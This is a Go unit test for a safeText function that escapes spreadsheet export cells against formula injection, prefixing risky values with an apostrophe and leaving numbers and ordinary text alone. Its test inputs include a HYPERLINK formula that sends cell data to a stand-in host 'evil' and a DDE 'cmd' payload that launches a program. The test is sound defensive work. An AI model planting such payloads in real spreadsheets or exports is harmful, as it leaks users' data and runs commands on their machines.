package export

import "testing"

func TestSafeText(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil/?"&A2,"x")`: `'=HYPERLINK("http://evil/?"&A2,"x")`,
		"+1+cmd|' /C calc'!A0":               "'+1+cmd|' /C calc'!A0",
		"-1+1":                               "'-1+1",
		"@SUM(1,1)":                          "'@SUM(1,1)",
		"\t=1":                               "'\t=1",
		"\r=1":                               "'\r=1",
		"-Inf":                               "'-Inf",
		"-2.1":                               "-2.1",
		"+8.5":                               "+8.5",
		"-.5":                                "-.5",
		"-1e5":                               "-1e5",
		"张三":                                 "张三",
		"a=1":                                "a=1",
		"":                                   "",
	} {
		if got := safeText(in); got != want {
			t.Errorf("safeText(%q) = %q, want %q", in, got, want)
		}
	}
}
